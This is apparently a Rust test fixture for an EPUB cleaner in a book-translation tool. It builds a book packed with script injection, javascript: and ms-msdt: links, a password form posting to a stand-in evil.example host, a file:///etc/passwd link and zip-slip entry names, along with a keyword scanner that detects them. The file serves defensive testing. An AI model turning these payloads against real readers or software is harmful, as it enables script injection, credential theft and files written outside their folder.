//! An EPUB carrying everything a translated book must not pass on (scripts inline, in files and
//! in SVG, event handlers, `javascript:`, `data:`, `file:` and `ms-msdt:` links, frames,
//! plug-ins, a form, a refresh, a base, remote style sheets, images and CSS `url()`s and
//! `@import`s, chapters whose media types carry parameters, odd case and spaces, a plug-in in
//! the spine, zip entries named to land outside the package), and
//! [`findings`], which looks for any of it in a file without sharing the cleaner's code, so
//! that the two cannot be wrong the same way.
//!
//! Behind the `test-support` feature (and in this crate's tests): the renderers' tests and
//! the black-box suite use it; no production code does. It only writes to memory, so its
//! `expect`s cannot fail short of running out of it.
#![allow(clippy::expect_used)]

use std::io::{Read, Write};

use zip::write::SimpleFileOptions;
use zip::CompressionMethod;

/// The zip entries whose names leave the package: none may come out.
pub const UNSAFE_NAMES: &[&str] = &[
    "../../../../tmp/x.png",
    "/tmp/x.txt",
    "C:\\booktr\\x.txt",
    "OEBPS/..\\..\\x.txt",
    "OEBPS/../../x.txt",
];

/// Words of the book's text, which must survive the cleaning.
pub const KEPT_WORDS: &[&str] = &[
    "stormy night",
    "Your password",
    "Chapter two",
    "fallback",
    "Styled words",
    "Chapter three",
    "Chapter four",
];

/// A 1 x 1 PNG.
const PNG: &[u8] = &[
    137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0,
    0, 0, 31, 21, 196, 137, 0, 0, 0, 13, 73, 68, 65, 84, 120, 218, 99, 100, 248, 207, 80, 15, 0, 3,
    134, 1, 128, 90, 52, 125, 107, 0, 0, 0, 0, 73, 69, 78, 68, 174, 66, 96, 130,
];
const PNG_DATA_URL: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const CONTAINER: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
  <rootfiles>
    <rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/>
  </rootfiles>
</container>
"#;

const OPF: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
    <dc:identifier id="id">urn:booktr:active</dc:identifier>
    <dc:title>An Active Book</dc:title>
    <dc:language>en</dc:language>
    <meta property="dcterms:modified">2026-01-01T00:00:00Z</meta>
    <meta name="cover" content="outside"/>
  </metadata>
  <manifest>
    <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
    <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted svg remote-resources"/>
    <item id="c2" href="c2.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
    <item id="c3" href="c3.xml" media-type="application/xhtml+xml;charset=utf-8"/>
    <item id="c4" href="c4.htm5" media-type="text/html; charset=utf-8"/>
    <item id="c5" href="c5.xhtml" media-type=" Application/XHTML+XML ; x=y"/>
    <item id="movie" href="movie.swf" media-type="application/x-shockwave-flash"/>
    <item id="css" href="style.css" media-type="text/css"/>
    <item id="drawing" href="drawing.svg" media-type="image/svg+xml"/>
    <item id="dot" href="dot.png" media-type="image/png"/>
    <item id="app" href="app.js" media-type="application/javascript"/>
    <item id="remote-css" href="https://evil.example/x.css" media-type="text/css"/>
    <item id="outside" href="../../../../../tmp/x.png" media-type="image/png"/>
    <item id="absolute" href="/tmp/x.txt" media-type="image/png"/>
    <item id="climbing" href="../../x.txt" media-type="image/png"/>
  </manifest>
  <spine>
    <itemref idref="c1"/>
    <itemref idref="c2"/>
    <itemref idref="c3"/>
    <itemref idref="c4"/>
    <itemref idref="c5" linear="no"/>
    <itemref idref="movie"/>
  </spine>
</package>
"#;

const NAV: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xml:lang="en" lang="en">
<head><title>Contents</title></head>
<body>
  <nav epub:type="toc" id="toc"><h1>Contents</h1>
    <ol>
      <li><a href="c1.xhtml">Chapter One</a></li>
      <li><a href="c2.xhtml">Chapter Two</a></li>
    </ol>
  </nav>
  <p>See <a href="file:///etc/passwd">the passwords</a> and <a href="ms-msdt:/id PCWDiagnostic /skip force">help</a>.</p>
</body>
</html>
"#;

fn chapter_one() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xml:lang="en" lang="en">
<head>
  <title>Chapter One</title>
  <meta http-equiv="refresh" content="0;url=https://evil.example/"/>
  <base href="https://evil.example/"/>
  <link rel="stylesheet" type="text/css" href="https://evil.example/x.css"/>
  <link rel="stylesheet" type="text/css" href="style.css"/>
  <style>@import url(https://evil.example/i.css); h1 {{ background: url('https://evil.example/bg.png') }}</style>
  <script src="app.js"></script>
  <script type="text/javascript"><![CDATA[ if (1 < 2) {{ alert("inline"); }} ]]></script>
</head>
<body onload="alert('body')">
  <h1 id="top" onclick="alert('heading')">Chapter One</h1>
  <p>It was a <a href="javascript:alert(1)">dark</a> and <a href="&#106;ava&#x09;script:alert(2)">stormy night</a>.</p>
  <p onmouseover="alert(3)">The <a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">rain</a> fell <a href="c2.xhtml">on</a> and <a href="VBScript:msgbox(5)">on</a>.</p>
  <iframe src="https://evil.example/frame.html"></iframe>
  <object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><p>The object's fallback</p></object>
  <embed src="https://evil.example/x.swf" type="application/x-shockwave-flash"/>
  <form action="https://evil.example/steal" method="post"><p>Your password: <input type="password" name="p"/> <button type="submit" formaction="javascript:alert(6)">Send</button></p></form>
  <p><img src="{PNG_DATA_URL}" alt="a dot inline"/><img src="dot.png" alt="a dot"/><img src="../../../../tmp/x.png" alt="a file outside"/><img src="drawing.svg" alt="a drawing"/></p>
  <p><a href="file:///etc/passwd"><img src="dot.png" alt="a linked dot"/></a><img src="https://evil.example/pixel.png" alt="a pixel"/></p>
  <p style="color: black; background:url(https://evil.example/s.png)">Styled words</p>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="alert(7)">
    <script type="application/ecmascript">alert(8)</script>
    <a xlink:href="javascript:alert(9)"><rect width="5" height="5"/></a>
    <set attributeName="onmouseover" to="alert(10)"/>
    <foreignObject width="5" height="5"><p xmlns="http://www.w3.org/1999/xhtml" onclick="alert(11)">Inside SVG</p></foreignObject>
  </svg>
</body>
</html>
"#
    )
}

const CHAPTER_TWO: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en" lang="en">
<head><title>Chapter Two</title></head>
<body>
  <h1>Chapter two</h1>
  <p>Chapter two begins <a href="/tmp/x.txt">here</a>, <a href="../../x.txt">there</a> and <a href="c1.xhtml#top" onfocus="alert(12)">back</a>.</p>
  <p><a href="https://example.org/">An ordinary link</a> stays.</p>
  <script>alert(13)</script>
</body>
</html>
"#;

const DRAWING: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="alert(14)">
  <script><![CDATA[ alert(15) ]]></script>
  <circle cx="5" cy="5" r="4" onclick="alert(16)"/>
  <a href="javascript:alert(17)"><rect width="2" height="2"/></a>
</svg>
"#;

/// A chapter whose media type carries parameters, odd case or spaces, with the same script,
/// handler and link as the others.
fn chapter_typed_oddly(title: &str, alert: u32) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en" lang="en">
<head><title>{title}</title></head>
<body>
  <h1>{title}</h1>
  <p onmouseover="alert({alert})">{title} has a <a href="javascript:alert({alert})">link</a>.</p>
  <script>alert({alert})</script>
</body>
</html>
"#
    )
}

const STYLE: &str = "@import \"https://evil.example/y.css\";\n\
    p { margin: 0 }\n\
    @font-face { font-family: x; src: url(//evil.example/f.woff2) format(\"woff2\") }\n";

/// The EPUB 3 book described in the module's notes.
pub fn epub() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    let chapter_one = chapter_one();
    let chapter_three = chapter_typed_oddly("Chapter three", 22);
    let chapter_four = chapter_typed_oddly("Chapter four", 23);
    let chapter_five = chapter_typed_oddly("Chapter five", 24);
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("OEBPS/content.opf", OPF.as_bytes()),
        ("OEBPS/nav.xhtml", NAV.as_bytes()),
        ("OEBPS/c1.xhtml", chapter_one.as_bytes()),
        ("OEBPS/c2.xhtml", CHAPTER_TWO.as_bytes()),
        ("OEBPS/c3.xml", chapter_three.as_bytes()),
        ("OEBPS/c4.htm5", chapter_four.as_bytes()),
        ("OEBPS/c5.xhtml", chapter_five.as_bytes()),
        ("OEBPS/movie.swf", b"FWS\x0a\x00\x00\x00\x00"),
        ("OEBPS/style.css", STYLE.as_bytes()),
        ("OEBPS/drawing.svg", DRAWING.as_bytes()),
        ("OEBPS/dot.png", PNG),
        ("OEBPS/app.js", b"alert(18)"),
    ];
    entries.extend(UNSAFE_NAMES.iter().map(|name| (*name, &b"planted"[..])));
    zip.start_file("mimetype", stored).expect("in memory");
    zip.write_all(b"application/epub+zip").expect("in memory");
    for (name, bytes) in entries {
        zip.start_file(name, deflated).expect("in memory");
        zip.write_all(bytes).expect("in memory");
    }
    zip.finish().expect("in memory").into_inner()
}

/// What in `epub` a reading system could run or follow out of the book, one line each; empty
/// when there is nothing. Plain text search over every entry's name and every document.
pub fn findings(epub: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(epub)).expect("a zip archive");
    for index in 0..zip.len() {
        let mut entry = zip.by_index(index).expect("a readable entry");
        let name = entry.name().to_string();
        let leaves = name.starts_with('/')
            || name.contains(['\\', ':'])
            || name.split('/').any(|s| s == "..");
        if leaves {
            found.push(format!("an entry named {name:?}"));
        }
        let lower_name = name.to_ascii_lowercase();
        if lower_name.ends_with(".js") {
            found.push(format!("a script file {name}"));
        }
        if lower_name.ends_with(".swf") {
            found.push(format!("a plug-in file {name}"));
        }
        // Every entry that is text, whatever its name says.
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).expect("a readable entry");
        let Ok(text) = String::from_utf8(bytes) else {
            continue;
        };
        let lower = text.to_ascii_lowercase();
        for needle in [
            "<script",
            ":script",
            "<iframe",
            "<object",
            "<embed",
            "<frame",
            "<base",
            "<form",
            "<set ",
            "http-equiv=\"refresh\"",
            "javascript:",
            "vbscript:",
            "evil.example",
            "file:",
            "ms-msdt:",
            "movie.swf",
            "scripted",
            "remote-resources",
            "tmp/x",
            "x.txt",
            "app.js",
        ] {
            if lower.contains(needle) {
                found.push(format!("{name}: {needle}"));
            }
        }
        found.extend(event_handlers(&lower).map(|h| format!("{name}: {h}")));
        for (at, _) in lower.match_indices("data:") {
            let image = lower[..at].ends_with("src=\"") && lower[at..].starts_with("data:image/");
            if !image {
                found.push(format!("{name}: a data: address not an image's source"));
            }
        }
    }
    found
}

/// Attributes named `on…` in a lower-cased document: ` onclick=`, `\nonload =`.
fn event_handlers(lower: &str) -> impl Iterator<Item = String> + '_ {
    lower.match_indices("on").filter_map(|(at, _)| {
        let before = lower[..at].chars().next_back()?;
        if !before.is_whitespace() {
            return None;
        }
        let name: String = lower[at..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        let rest = lower[at + name.len()..].trim_start();
        (name.len() > 2 && rest.starts_with('=')).then_some(name)
    })
}
